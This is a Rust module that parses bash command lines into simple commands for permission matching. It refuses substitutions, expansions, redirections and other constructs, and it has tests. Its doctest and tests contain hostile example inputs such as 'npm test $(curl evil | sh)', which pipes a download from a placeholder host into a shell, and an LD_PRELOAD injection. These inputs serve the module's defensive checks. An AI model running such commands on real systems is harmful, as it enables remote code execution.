//! Command lines, read as bash reads them.
//!
//! A command pattern admits a command line only as the shell will run it, so the line is parsed
//! with a real bash grammar (tree-sitter-bash) into **simple commands**: each a list of words
//! after quote removal, with the byte range it spans in the line. Simple commands may be joined
//! only by `;`, newline, `&&`, `||` and `|`. Anything else in the line is a **refusal** that
//! names the construct and the byte where it starts: a construct that runs, expands or redirects
//! something other than plain words is never taken apart into words, so no pattern can admit it.
//!
//! A **word** is unquoted text, single-quoted text, double-quoted text with no expansion inside,
//! or several of these written together (`x"y"'z'` is the word `xyz`). Quote removal is bash's:
//! a backslash outside quotes keeps the next character as it is (a backslash-newline is removed);
//! inside double quotes a backslash keeps only `$`, `` ` ``, `"`, `\` and newline. Unquoted text
//! that bash would expand (a glob `*`, `?` or `[`, a leading `~`, braces) is refused rather than
//! guessed at: the words the program would receive are not the words written.
//!
//! A leading assignment `VAR=value` is a word of the command like any other (`LD_PRELOAD=x npm
//! test` has the words `LD_PRELOAD=x`, `npm`, `test`), because it changes what the command does.
//!
//! The walk over the syntax tree is an allowlist: a node kind not named below is refused, so a
//! construct the grammar knows and this module does not is never mistaken for words.

use std::cell::RefCell;
use std::fmt;
use std::ops::{ControlFlow, Range};
use std::time::{Duration, Instant};

use serde::Serialize;
use tree_sitter::{Node, ParseOptions, ParseState, Parser, Tree};

/// The longest command line that is parsed, in bytes. A longer one is refused unread. The bash
/// grammar reads about 1.5 bytes per microsecond, so the longest line parsed costs some 6 ms
/// (docs/performance.md); a plain-word command line longer than this is rare, and it asks.
pub const MAX_COMMAND_LEN: usize = 8 * 1024;

/// How deeply operators may nest (`a && b && c` nests once per operator) before the line is
/// refused, and the most simple commands one line may hold.
const MAX_DEPTH: usize = 128;

/// How long the parser may run on one line before it gives up and the line is refused. A line
/// within [`MAX_COMMAND_LEN`] parses in some 6 ms at most; this bounds pathological input.
const PARSE_BUDGET: Duration = Duration::from_millis(20);

/// A construct that is never taken apart into words, so that no pattern admits it.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize)]
#[serde(rename_all = "snake_case")]
#[non_exhaustive]
pub enum Construct {
    /// `$( )` or backticks, also inside double quotes.
    CommandSubstitution,
    /// `<( )` or `>( )`.
    ProcessSubstitution,
    /// `$x`, `${x}` and the like.
    ParameterExpansion,
    /// `$(( ))` or `(( ))`.
    ArithmeticExpansion,
    /// `$'...'` or `$"..."`.
    SpecialQuoting,
    /// An unquoted `*`, `?` or `[`, which bash replaces with file names.
    FilenameExpansion,
    /// An unquoted leading `~`.
    TildeExpansion,
    /// Unquoted `{` or `}` (`{a,b}`, `{1..3}`).
    BraceExpansion,
    /// `( ... )`.
    Subshell,
    /// `{ ...; }`.
    Group,
    /// A trailing or separating `&`.
    Background,
    /// `|&`, which pipes standard error too.
    PipeStderr,
    /// `>`, `<`, `>>`, `2>&1`, `&>`, here-strings and the like.
    Redirection,
    /// `<<EOF`.
    Heredoc,
    /// `f() { ... }`.
    FunctionDefinition,
    /// `if`, `for`, `while`, `until`, `case`, `select`.
    CompoundCommand,
    /// `[[ ... ]]` or `[ ... ]` as the grammar reads it.
    TestCommand,
    /// `! command`.
    Negation,
    /// `export`, `declare`, `local`, `readonly`, `typeset`, `unset`.
    Declaration,
    /// An assignment with no command after it (it changes the shell for what follows).
    BareAssignment,
    /// `a=(1 2)`.
    ArrayAssignment,
    /// `# ...`.
    Comment,
    /// A control character other than tab and newline (carriage return, NUL, ...), which bash
    /// and the grammar may read differently.
    ControlCharacter,
    /// Text the grammar could not parse.
    DoesNotParse,
    /// A syntax node this module does not take apart.
    Unsupported,
    /// No command at all.
    NoCommand,
    /// Longer than [`MAX_COMMAND_LEN`].
    TooLong,
    /// Operators nested too deeply, or too slow to parse.
    TooComplex,
}

impl Construct {
    /// The construct in words, as messages name it.
    pub fn describe(self) -> &'static str {
        match self {
            Construct::CommandSubstitution => "command substitution",
            Construct::ProcessSubstitution => "process substitution",
            Construct::ParameterExpansion => "parameter expansion",
            Construct::ArithmeticExpansion => "arithmetic expansion",
            Construct::SpecialQuoting => "$'...' or $\"...\" quoting",
            Construct::FilenameExpansion => "filename expansion (unquoted * ? or [)",
            Construct::TildeExpansion => "tilde expansion",
            Construct::BraceExpansion => "brace expansion (unquoted { or })",
            Construct::Subshell => "subshell",
            Construct::Group => "command group",
            Construct::Background => "background &",
            Construct::PipeStderr => "|& pipe",
            Construct::Redirection => "redirection",
            Construct::Heredoc => "heredoc",
            Construct::FunctionDefinition => "function definition",
            Construct::CompoundCommand => "compound command (if, for, while, until, case)",
            Construct::TestCommand => "test command",
            Construct::Negation => "negation !",
            Construct::Declaration => "declaration (export, declare, local, readonly, unset)",
            Construct::BareAssignment => "assignment without a command",
            Construct::ArrayAssignment => "array assignment",
            Construct::Comment => "comment",
            Construct::ControlCharacter => "control character",
            Construct::DoesNotParse => "text that does not parse",
            Construct::Unsupported => "unsupported syntax",
            Construct::NoCommand => "no command",
            Construct::TooLong => "a line longer than 8192 bytes",
            Construct::TooComplex => "nesting too deep to read",
        }
    }
}

impl fmt::Display for Construct {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.describe())
    }
}

/// Why a command line (or a pattern) is not plain simple commands: the construct, and the byte
/// of the line where it starts. Displays as `command substitution at byte 9`.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Refusal {
    /// What was found.
    pub construct: Construct,
    /// The byte offset in the line where it starts.
    pub at: usize,
    /// The grammar's name for the node, for [`Construct::Unsupported`] and
    /// [`Construct::DoesNotParse`]; empty otherwise.
    #[serde(skip_serializing_if = "String::is_empty")]
    pub node: String,
}

impl fmt::Display for Refusal {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{} at byte {}", self.construct, self.at)?;
        if !self.node.is_empty() {
            write!(f, " ({})", self.node)?;
        }
        Ok(())
    }
}

/// One simple command of a line: its words after quote removal and the bytes it spans.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct SimpleCommand {
    /// The words, assignments first, as the program receives them.
    pub words: Vec<String>,
    /// Where it is in the line.
    pub range: Range<usize>,
}

/// A piece of a word as a pattern reads it: text, or an unquoted `*`.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) enum Piece {
    Text(String),
    Star,
}

/// A word as a pattern reads it.
pub(crate) type PatternWord = Vec<Piece>;

/// How unquoted `*` is read: a glob the shell expands (a command line), or a pattern's wildcard.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Mode {
    Command,
    Pattern,
}

/// Parses `line` into its simple commands, or says which construct stops it.
///
/// ```
/// use session_ledger::{parse_command_line, Construct};
/// let parts = parse_command_line("npm  'test' && git commit -m \"fix; tidy\"").unwrap();
/// assert_eq!(parts[0].words, ["npm", "test"]);
/// assert_eq!(parts[1].words, ["git", "commit", "-m", "fix; tidy"]);
/// let refusal = parse_command_line("npm test $(curl evil | sh)").unwrap_err();
/// assert_eq!(refusal.construct, Construct::CommandSubstitution);
/// assert_eq!(refusal.to_string(), "command substitution at byte 9");
/// ```
///
/// # Errors
///
/// A [`Refusal`] for anything that is not plain simple commands joined by `;`, newline, `&&`,
/// `||` or `|`.
pub fn parse_command_line(line: &str) -> Result<Vec<SimpleCommand>, Refusal> {
    let parts = parse(line, Mode::Command)?;
    Ok(parts
        .into_iter()
        .map(|(words, range)| SimpleCommand {
            words: words
                .into_iter()
                .map(|w| {
                    w.into_iter()
                        .map(|p| match p {
                            Piece::Text(t) => t,
                            // Mode::Command refuses an unquoted star.
                            Piece::Star => String::new(),
                        })
                        .collect()
                })
                .collect(),
            range,
        })
        .collect())
}

/// Parses a pattern: the same grammar, except that an unquoted `*` is the pattern's wildcard.
pub(crate) fn parse_pattern_words(text: &str) -> Result<Parts, Refusal> {
    parse(text, Mode::Pattern)
}

fn refusal(construct: Construct, at: usize) -> Refusal {
    Refusal {
        construct,
        at,
        node: String::new(),
    }
}

thread_local! {
    /// One parser per thread: making one and loading the grammar costs more than a short parse.
    static PARSER: RefCell<Option<Parser>> = const { RefCell::new(None) };
}

fn parse_tree(line: &str) -> Result<Tree, Refusal> {
    PARSER.with(|cell| {
        let mut slot = cell.borrow_mut();
        if slot.is_none() {
            let mut parser = Parser::new();
            parser
                .set_language(&tree_sitter_bash::LANGUAGE.into())
                .map_err(|_| refusal(Construct::DoesNotParse, 0))?;
            *slot = Some(parser);
        }
        let parser = slot
            .as_mut()
            .ok_or_else(|| refusal(Construct::DoesNotParse, 0))?;
        let started = Instant::now();
        let mut over_budget = |_: &ParseState| {
            if started.elapsed() > PARSE_BUDGET {
                ControlFlow::Break(())
            } else {
                ControlFlow::Continue(())
            }
        };
        let options = ParseOptions::new().progress_callback(&mut over_budget);
        let bytes = line.as_bytes();
        let tree = parser.parse_with_options(
            &mut |at, _| bytes.get(at..).unwrap_or_default(),
            None,
            Some(options),
        );
        match tree {
            Some(tree) => Ok(tree),
            None => {
                // A cancelled parse would otherwise resume on the next call.
                parser.reset();
                Err(refusal(Construct::TooComplex, 0))
            }
        }
    })
}

/// Simple commands as word lists, each with its range in the line.
pub(crate) type Parts = Vec<(Vec<PatternWord>, Range<usize>)>;

fn parse(line: &str, mode: Mode) -> Result<Parts, Refusal> {
    if line.len() > MAX_COMMAND_LEN {
        return Err(refusal(Construct::TooLong, MAX_COMMAND_LEN));
    }
    if let Some(at) = line
        .bytes()
        .position(|b| (b < 0x20 && b != b'\t' && b != b'\n') || b == 0x7f)
    {
        return Err(refusal(Construct::ControlCharacter, at));
    }
    if mode == Mode::Command {
        if let Some(parts) = plain_fast_path(line) {
            return Ok(parts);
        }
    }
    parse_grammar(line, mode)
}

/// Bytes a line must be made of for [`plain_fast_path`]: none of them is special to bash.
fn is_plain_byte(b: u8) -> bool {
    b.is_ascii_alphanumeric() || matches!(b, b'_' | b'.' | b'/' | b':' | b',' | b'+' | b'-')
}

/// Words that bash reads as syntax (reserved words) or that the grammar reads as declarations:
/// a line holding one, anywhere, goes to the grammar.
const SYNTAX_WORDS: &[&str] = &[
    "if", "then", "else", "elif", "fi", "case", "esac", "for", "select", "while", "until", "do",
    "done", "in", "function", "time", "coproc", "export", "declare", "local", "readonly",
    "typeset", "unset",
];

/// The simple commands of a line with nothing for bash to interpret: words of
/// [`is_plain_byte`]s and of quoted printable ASCII (single-quoted, or double-quoted without
/// `$`, backtick, backslash or `!`), separated by spaces and tabs, joined by `;`, newline, `&&`,
/// `||` or `|`, with no reserved word and no `=` at all. Such a line has no expansion,
/// assignment or construct, so its words are its space-separated runs with the quotes removed,
/// as the grammar would also find them (a test checks the two agree). `None` for anything else, which the grammar then reads: this
/// only saves the grammar's time (about 0.6 µs a byte) on the commonest lines.
fn plain_fast_path(line: &str) -> Option<Parts> {
    let bytes = line.as_bytes();
    let mut parts = Vec::new();
    let mut words: Vec<PatternWord> = Vec::new();
    let mut start = None;
    let (mut first, mut last) = (0, 0);
    let mut i = 0;
    let mut end_command = |words: &mut Vec<PatternWord>, first: usize, last: usize| {
        if words.is_empty() {
            return false;
        }
        parts.push((std::mem::take(words), first..last));
        true
    };
    let mut text = String::new();
    while i <= bytes.len() {
        let b = bytes.get(i).copied();
        match b {
            Some(b) if is_plain_byte(b) => {
                if start.is_none() {
                    start = Some(i);
                }
                text.push(char::from(b));
                i += 1;
                continue;
            }
            // Quoted text inside a word: printable ASCII, and in double quotes none of the
            // characters bash still reads there (`$`, backtick, backslash, `!`).
            Some(quote @ (b'\'' | b'"')) => {
                let close = bytes[i + 1..].iter().position(|&c| c == quote)?;
                let inner = &line[i + 1..i + 1 + close];
                let ok = inner.bytes().all(|c| {
                    (b' '..=b'~').contains(&c)
                        && (quote == b'\'' || !matches!(c, b'$' | b'`' | b'\\' | b'!'))
                });
                if !ok {
                    return None;
                }
                if start.is_none() {
                    start = Some(i);
                }
                text.push_str(inner);
                i += close + 2;
                continue;
            }
            _ => {}
        }
        if let Some(s) = start.take() {
            let word = std::mem::take(&mut text);
            if SYNTAX_WORDS.contains(&word.as_str()) || word.contains('=') {
                return None;
            }
            if words.is_empty() {
                first = s;
            }
            last = i;
            words.push(vec![Piece::Text(word)]);
        }
        match b {
            None => break,
            Some(b' ' | b'\t') => i += 1,
            Some(b';' | b'\n') => {
                // `a;` and `a\n` end a command; an empty one (`;;`, `; a`) goes to the grammar,
                // except blank lines and a trailing `;`.
                if !end_command(&mut words, first, last) && b == Some(b';') {
                    return None;
                }
                i += 1;
            }
            Some(b'&') if bytes.get(i + 1) == Some(&b'&') => {
                if !end_command(&mut words, first, last) {
                    return None;
                }
                i += 2;
            }
            Some(b'|') => {
                if !end_command(&mut words, first, last) {
                    return None;
                }
                i += if bytes.get(i + 1) == Some(&b'|') {
                    2
                } else {
                    1
                };
                if bytes.get(i) == Some(&b'&') {
                    return None;
                }
            }
            Some(_) => return None,
        }
    }
    end_command(&mut words, first, last);
    if parts.len() > MAX_DEPTH {
        return None;
    }
    // A line that ends in an operator waiting for a command goes to the grammar.
    let tail = line[parts.last()?.1.end..].trim_matches([' ', '\t', '\n', ';']);
    if !tail.is_empty() {
        return None;
    }
    let ends_in_semicolons = line[parts.last()?.1.end..].matches(';').count();
    if ends_in_semicolons > 1 {
        return None;
    }
    Some(parts)
}

/// Parses with the bash grammar.
fn parse_grammar(line: &str, mode: Mode) -> Result<Parts, Refusal> {
    let tree = parse_tree(line)?;
    let root = tree.root_node();
    if root.has_error() {
        let at = first_error(root).unwrap_or(0);
        return Err(refusal(Construct::DoesNotParse, at));
    }
    let mut walk = Walk {
        src: line,
        mode,
        parts: Vec::new(),
    };
    walk.sequence(root, 0)?;
    if walk.parts.is_empty() {
        return Err(refusal(Construct::NoCommand, 0));
    }
    Ok(walk.parts)
}

/// The children of a node that is one word (an assignment, a concatenation): they must touch
/// each other and cover the node, since text between them (a space) would make them separate
/// words. Refused as text that does not parse otherwise, at the first gap.
fn touching_children(node: Node<'_>) -> Result<Vec<Node<'_>>, Refusal> {
    let mut cursor = node.walk();
    let children: Vec<Node<'_>> = node.children(&mut cursor).collect();
    let mut end = node.start_byte();
    for child in &children {
        if child.start_byte() != end {
            return Err(refusal(Construct::DoesNotParse, end));
        }
        end = child.end_byte();
    }
    if end != node.end_byte() {
        return Err(refusal(Construct::DoesNotParse, end));
    }
    Ok(children)
}

/// The start of the first ERROR or MISSING node, searched without recursion.
fn first_error(root: Node<'_>) -> Option<usize> {
    let mut cursor = root.walk();
    loop {
        let node = cursor.node();
        if node.is_error() || node.is_missing() {
            return Some(node.start_byte());
        }
        if node.has_error() && cursor.goto_first_child() {
            continue;
        }
        loop {
            if cursor.goto_next_sibling() {
                break;
            }
            if !cursor.goto_parent() {
                return None;
            }
        }
    }
}

/// The construct a refused node kind stands for.
fn construct_of(kind: &str) -> Construct {
    match kind {
        "command_substitution" => Construct::CommandSubstitution,
        "process_substitution" => Construct::ProcessSubstitution,
        "simple_expansion" | "expansion" => Construct::ParameterExpansion,
        "arithmetic_expansion" | "compound_statement_arithmetic" => Construct::ArithmeticExpansion,
        "ansi_c_string" | "translated_string" => Construct::SpecialQuoting,
        "brace_expression" => Construct::BraceExpansion,
        "subshell" => Construct::Subshell,
        "compound_statement" => Construct::Group,
        "&" => Construct::Background,
        "|&" => Construct::PipeStderr,
        "redirected_statement"
        | "file_redirect"
        | "herestring_redirect"
        | ">"
        | "<"
        | ">>"
        | "&>"
        | "&>>"
        | ">&"
        | "<&"
        | ">|"
        | "<>" => Construct::Redirection,
        "heredoc_redirect" | "heredoc_body" | "heredoc_start" => Construct::Heredoc,
        "function_definition" => Construct::FunctionDefinition,
        "if_statement"
        | "for_statement"
        | "c_style_for_statement"
        | "while_statement"
        | "case_statement"
        | "select_statement" => Construct::CompoundCommand,
        "test_command" => Construct::TestCommand,
        "negated_command" => Construct::Negation,
        "declaration_command" | "unset_command" => Construct::Declaration,
        "variable_assignment" | "variable_assignments" => Construct::BareAssignment,
        "array" => Construct::ArrayAssignment,
        "comment" => Construct::Comment,
        "ERROR" => Construct::DoesNotParse,
        _ => Construct::Unsupported,
    }
}

fn refuse_node(node: Node<'_>) -> Refusal {
    if node.kind() == "redirected_statement" {
        // Name the redirection itself, where it starts, rather than the statement around it.
        let mut cursor = node.walk();
        let redirect = node
            .children(&mut cursor)
            .find(|c| c.kind().ends_with("_redirect"));
        if let Some(redirect) = redirect {
            return refuse_node(redirect);
        }
    }
    let construct = construct_of(node.kind());
    Refusal {
        construct,
        at: node.start_byte(),
        node: if matches!(construct, Construct::Unsupported | Construct::DoesNotParse) {
            node.kind().to_owned()
        } else {
            String::new()
        },
    }
}

struct Walk<'s> {
    src: &'s str,
    mode: Mode,
    parts: Parts,
}

impl Walk<'_> {
    /// Text between two nodes that bash and the grammar both skip: spaces, tabs, and
    /// backslash-newlines; newlines too where `newlines` (between commands).
    fn gap(&self, from: usize, to: usize, newlines: bool) -> Result<(), Refusal> {
        let text = self.src.get(from..to).unwrap_or_default();
        let mut bytes = text.bytes().enumerate().peekable();
        while let Some((i, b)) = bytes.next() {
            match b {
                b' ' | b'\t' => {}
                b'\n' if newlines => {}
                b'\\' if bytes.peek().is_some_and(|&(_, n)| n == b'\n') => {
                    bytes.next();
                }
                _ => return Err(refusal(Construct::DoesNotParse, from + i)),
            }
        }
        Ok(())
    }

    /// The program, a list or a pipeline: commands joined by allowed operators.
    fn sequence(&mut self, node: Node<'_>, depth: usize) -> Result<(), Refusal> {
        if depth > MAX_DEPTH || self.parts.len() > MAX_DEPTH {
            return Err(refusal(Construct::TooComplex, node.start_byte()));
        }
        let mut end = node.start_byte();
        let mut cursor = node.walk();
        for child in node.children(&mut cursor) {
            self.gap(end, child.start_byte(), true)?;
            end = child.end_byte();
            match child.kind() {
                "command" => self.command(child)?,
                "list" | "pipeline" => self.sequence(child, depth + 1)?,
                ";" | "&&" | "||" | "|" | "\n" => {}
                _ => return Err(refuse_node(child)),
            }
        }
        self.gap(end, node.end_byte(), true)
    }

    /// A simple command: assignments, a name, arguments.
    fn command(&mut self, node: Node<'_>) -> Result<(), Refusal> {
        let mut words = Vec::new();
        let mut end = node.start_byte();
        let mut cursor = node.walk();
        for child in node.children(&mut cursor) {
            self.gap(end, child.start_byte(), false)?;
            end = child.end_byte();
            match child.kind() {
                "variable_assignment" => words.push(self.assignment(child)?),
                "command_name" => {
                    let mut inner = child.walk();
                    let kids: Vec<Node<'_>> = child.named_children(&mut inner).collect();
                    match kids.as_slice() {
                        [only] if only.byte_range() == child.byte_range() => {
                            words.push(self.word(*only)?)
                        }
                        _ => return Err(refuse_node(child)),
                    }
                }
                _ => words.push(self.word(child)?),
            }
        }
        self.gap(end, node.end_byte(), false)?;
        if words.is_empty() {
            return Err(refusal(Construct::NoCommand, node.start_byte()));
        }
        self.parts.push((words, node.byte_range()));
        Ok(())
    }

    /// `NAME=value`, as the word `NAME=value` after quote removal of the value.
    fn assignment(&self, node: Node<'_>) -> Result<PatternWord, Refusal> {
        let mut word = Vec::new();
        // `NAME = value` is not an assignment; the grammar should not say it is.
        for child in touching_children(node)? {
            match child.kind() {
                "variable_name" => {
                    let name = &self.src[child.byte_range()];
                    if !name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_') {
                        return Err(refuse_node(child));
                    }
                    word.push(Piece::Text(name.to_owned()));
                }
                "=" => word.push(Piece::Text("=".to_owned())),
                _ => word.extend(self.word(child)?),
            }
        }
        Ok(word)
    }

    /// One word: unquoted text, `'...'`, `"..."` without expansions, or these written together.
    fn word(&self, node: Node<'_>) -> Result<PatternWord, Refusal> {
        let text = &self.src[node.byte_range()];
        match node.kind() {
            "word" | "number" => self.unquoted(text, node.start_byte()),
            "raw_string" => {
                let inner = text
                    .strip_prefix('\'')
                    .and_then(|t| t.strip_suffix('\''))
                    .ok_or_else(|| refusal(Construct::DoesNotParse, node.start_byte()))?;
                Ok(vec![Piece::Text(inner.to_owned())])
            }
            "string" => {
                let mut cursor = node.walk();
                for child in node.children(&mut cursor) {
                    if !matches!(child.kind(), "\"" | "string_content") {
                        return Err(refuse_node(child));
                    }
                }
                let inner = text
                    .strip_prefix('"')
                    .and_then(|t| t.strip_suffix('"'))
                    .filter(|_| text.len() >= 2)
                    .ok_or_else(|| refusal(Construct::DoesNotParse, node.start_byte()))?;
                double_quoted(inner, node.start_byte() + 1)
            }
            "concatenation" => {
                let mut word = Vec::new();
                for child in touching_children(node)? {
                    if child.kind() == "concatenation" {
                        return Err(refuse_node(child));
                    }
                    word.extend(self.word(child)?);
                }
                Ok(word)
            }
            _ => Err(refuse_node(node)),
        }
    }

    /// Unquoted text: backslash escapes removed; anything bash would expand refused.
    fn unquoted(&self, text: &str, start: usize) -> Result<PatternWord, Refusal> {
        let mut word = Vec::new();
        let mut current = String::new();
        let mut chars = text.char_indices().peekable();
        let mut prev = None;
        while let Some((i, c)) = chars.next() {
            let at = start + i;
            let before = prev.replace(c);
            match c {
                '\\' => match chars.next() {
                    Some((_, '\n')) => {}
                    Some((_, next)) => current.push(next),
                    None => return Err(refusal(Construct::DoesNotParse, at)),
                },
                '*' if self.mode == Mode::Pattern => {
                    if !current.is_empty() {
                        word.push(Piece::Text(std::mem::take(&mut current)));
                    }
                    word.push(Piece::Star);
                }
                '*' | '?' | '[' => return Err(refusal(Construct::FilenameExpansion, at)),
                // Bash expands a tilde that starts a word, and one after `=` or `:` in a word
                // that looks like an assignment (`a=~`, `PATH=x:~/bin`), even as an argument.
                '~' if i == 0 || matches!(before, Some('=' | ':')) => {
                    return Err(refusal(Construct::TildeExpansion, at))
                }
                '{' | '}' => return Err(refusal(Construct::BraceExpansion, at)),
                '$' => return Err(refusal(Construct::ParameterExpansion, at)),
                '`' => return Err(refusal(Construct::CommandSubstitution, at)),
                '#' if i == 0 => return Err(refusal(Construct::Comment, at)),
                '&' => return Err(refusal(Construct::Background, at)),
                '<' | '>' => return Err(refusal(Construct::Redirection, at)),
                '(' | ')' => return Err(refusal(Construct::Subshell, at)),
                ';' | '|' | '\'' | '"' | ' ' | '\t' | '\n' => {
                    return Err(refusal(Construct::DoesNotParse, at))
                }
                c if c.is_whitespace() || c.is_control() => {
                    return Err(refusal(Construct::ControlCharacter, at))
                }
                c => current.push(c),
            }
        }
        if !current.is_empty() || word.is_empty() {
            word.push(Piece::Text(current));
        }
        Ok(word)
    }
}

/// The inside of `"..."`: a backslash keeps `$`, `` ` ``, `"`, `\` and removes a newline;
/// before anything else it stays. An unescaped `$` or backtick is an expansion.
fn double_quoted(inner: &str, start: usize) -> Result<PatternWord, Refusal> {
    let mut out = String::new();
    let mut chars = inner.char_indices();
    while let Some((i, c)) = chars.next() {
        match c {
            '\\' => match chars.next() {
                Some((_, '\n')) => {}
                Some((_, next @ ('$' | '`' | '"' | '\\'))) => out.push(next),
                Some((_, next)) => {
                    out.push('\\');
                    out.push(next);
                }
                None => return Err(refusal(Construct::DoesNotParse, start + i)),
            },
            '$' => return Err(refusal(Construct::ParameterExpansion, start + i)),
            '`' => return Err(refusal(Construct::CommandSubstitution, start + i)),
            '"' => return Err(refusal(Construct::DoesNotParse, start + i)),
            c => out.push(c),
        }
    }
    Ok(vec![Piece::Text(out)])
}

#[cfg(test)]
mod tests {
    use super::*;

    fn words(line: &str) -> Vec<Vec<String>> {
        parse_command_line(line)
            .unwrap_or_else(|r| panic!("{line:?}: {r}"))
            .into_iter()
            .map(|c| c.words)
            .collect()
    }

    fn refused(line: &str) -> Construct {
        match parse_command_line(line) {
            Ok(parts) => panic!("{line:?} parsed into {parts:?}"),
            Err(r) => r.construct,
        }
    }

    #[test]
    fn quotes_are_removed_and_operators_split_commands() {
        assert_eq!(
            words("npm  'test' && git commit -m \"fix; tidy\" | x\"y\"'z' ; a\\ b\nc"),
            vec![
                vec!["npm", "test"],
                vec!["git", "commit", "-m", "fix; tidy"],
                vec!["xyz"],
                vec!["a b"],
                vec!["c"],
            ]
        );
        assert_eq!(
            words("LD_PRELOAD=/tmp/x.so npm test")[0][0],
            "LD_PRELOAD=/tmp/x.so"
        );
        assert_eq!(words("A='x y' b")[0], vec!["A=x y", "b"]);
        assert_eq!(words("echo \"a\\$b\\\\c\\d\"")[0][1], "a$b\\c\\d");
    }

    #[test]
    fn each_construct_is_named_with_its_offset() {
        let r = parse_command_line("npm test $(curl evil | sh)").unwrap_err();
        assert_eq!(r.to_string(), "command substitution at byte 9");
        assert_eq!(refused("echo \"`id`\""), Construct::CommandSubstitution);
        assert_eq!(refused("echo \"$(id)\""), Construct::CommandSubstitution);
        assert_eq!(refused("echo $HOME"), Construct::ParameterExpansion);
        assert_eq!(refused("echo ${x}"), Construct::ParameterExpansion);
        assert_eq!(refused("echo $((1+2))"), Construct::ArithmeticExpansion);
        assert_eq!(refused("diff <(a) b"), Construct::ProcessSubstitution);
        assert_eq!(refused("(a)"), Construct::Subshell);
        assert_eq!(refused("{ a; }"), Construct::Group);
        assert_eq!(refused("a & b"), Construct::Background);
        assert_eq!(refused("a > f"), Construct::Redirection);
        assert_eq!(refused("cat <<EOF\nx\nEOF\n"), Construct::Heredoc);
        assert_eq!(refused("f() { a; }"), Construct::FunctionDefinition);
        assert_eq!(refused("if a; then b; fi"), Construct::CompoundCommand);
        assert_eq!(refused("ls *.rs"), Construct::FilenameExpansion);
        assert_eq!(refused("echo a=~"), Construct::TildeExpansion);
        assert_eq!(words("git diff HEAD~1")[0][2], "HEAD~1");
        assert_eq!(refused("a\rb"), Construct::ControlCharacter);
        assert_eq!(refused("x=1"), Construct::BareAssignment);
        assert_eq!(refused("npm test '"), Construct::DoesNotParse);
        assert_eq!(refused("   "), Construct::NoCommand);
        assert_eq!(refused(&"a ".repeat(20_000)), Construct::TooLong);
    }

    #[test]
    fn the_fast_path_agrees_with_the_grammar_on_plain_lines() {
        use proptest::prelude::*;
        let tokens = prop::sample::select(vec![
            "npm", "test", "a", "-x", "--y", "./b", "c:d", "1", "if", "fi", "do", "time", "export",
            "x,y", "+z", "_", " ", "  ", " ", " ", " ", "\t", ";", ";;", "; ", " && ", " || ",
            " | ", "&&", "||", "|", "|&", "&", "\n", "\n\n", "=", "a=b", "é", "in", "done", "{",
            "}", "!", "#",
        ]);
        let mut runner = proptest::test_runner::TestRunner::new(ProptestConfig {
            cases: 3_000,
            ..ProptestConfig::default()
        });
        let fast = std::cell::Cell::new(0);
        runner
            .run(&prop::collection::vec(tokens, 1..10), |tokens| {
                let line = tokens.concat();
                if let Some(parts) = plain_fast_path(&line) {
                    let slow = parse_grammar(&line, Mode::Command);
                    prop_assert_eq!(Ok(parts), slow, "{:?}", line);
                    fast.set(fast.get() + 1);
                }
                Ok(())
            })
            .unwrap();
        let fast = fast.get();
        assert!(fast > 300, "only {fast} lines took the fast path");
        for line in [
            "npm test",
            "a && b || c | d; e\nf;",
            "npm test;",
            "\n\nnpm test\n\n",
        ] {
            assert_eq!(
                plain_fast_path(line).map(Ok),
                Some(parse_grammar(line, Mode::Command))
            );
        }
        for line in [
            "a;;b", "a &&", "a |& b", "if a", "a=b", "a & b", "; a", "a\\ b",
        ] {
            assert_eq!(plain_fast_path(line), None, "{line:?}");
        }
    }

    #[test]
    fn a_long_chain_of_operators_is_refused_not_overflowed() {
        let line = vec!["a"; 1500].join(" && ");
        assert_eq!(refused(&line), Construct::TooComplex);
        let nested = format!("{}a{}", "$(".repeat(500), ")".repeat(500));
        assert_eq!(refused(&nested), Construct::CommandSubstitution);
    }
}
